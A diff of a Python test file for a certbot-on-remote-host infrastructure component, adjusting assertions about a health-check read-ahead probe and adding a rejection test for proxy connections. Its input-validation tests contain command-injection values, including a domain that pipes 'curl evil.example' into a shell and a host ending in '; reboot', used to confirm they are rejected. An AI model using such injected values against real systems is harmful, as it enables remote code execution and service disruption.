@@ -117,12 +117,12 @@ def test_the_health_check_follows_the_steps_with_their_scripts_and_a_secret_key(
             assert inputs["repairs"][step] == run.mocks.named(f"df-1-{step}").inputs["create"]
         assert "RENEW_BEFORE_DAYS=21" in inputs["repairs"]["renewal"]
         assert "CertbotHost step: health" in inputs["probe"] and "PRIVATE-KEY-XYZ" not in inputs["probe"]
-        # The read-ahead: same connection (key secret) and probe, registered before the steps with no dependency,
-        # active only at preview (these mocks run an update).
+        # The read-ahead: same connection (key secret) and probe, with no dependency (so it registers at once, long
+        # before the health check, which waits for the steps), active only at preview (these mocks run an update).
         ahead = run.mocks.named("df-1-health-read-ahead")
         assert ahead.dependencies == [] and ahead.parent.endswith("::df-1")
         names = [r.name for r in run.mocks.registrations]
-        assert names.index("df-1-health-read-ahead") < names.index("df-1-firewall")
+        assert names.index("df-1-health-read-ahead") < names.index("df-1-health")
         assert ahead.inputs["probe"] == inputs["probe"] and ahead.inputs["enabled"] is False
         assert rpc.is_rpc_secret(ahead.inputs["private_key"])
 
@@ -159,6 +159,8 @@ def test_bad_input_registers_nothing(run):
         host(domains=["df.example.com && curl evil.example | sh"])
     with pytest.raises(CertbotConfigError, match="'connection.host'"):
         host(connection=remote.ConnectionArgs(host="h; reboot", user="root"))
+    with pytest.raises(CertbotConfigError, match="'connection.proxy': not supported yet by the health check"):
+        host(connection=remote.ConnectionArgs(host="h", user="root", proxy=remote.ProxyConnectionArgs(host="bastion")))
     with pytest.raises(CertbotConfigError, match="'connection.user'"):
         host(connection=remote.ConnectionArgs(host="h", user=pulumi.Output.from_input("root")))
     assert run.mocks.registrations == []
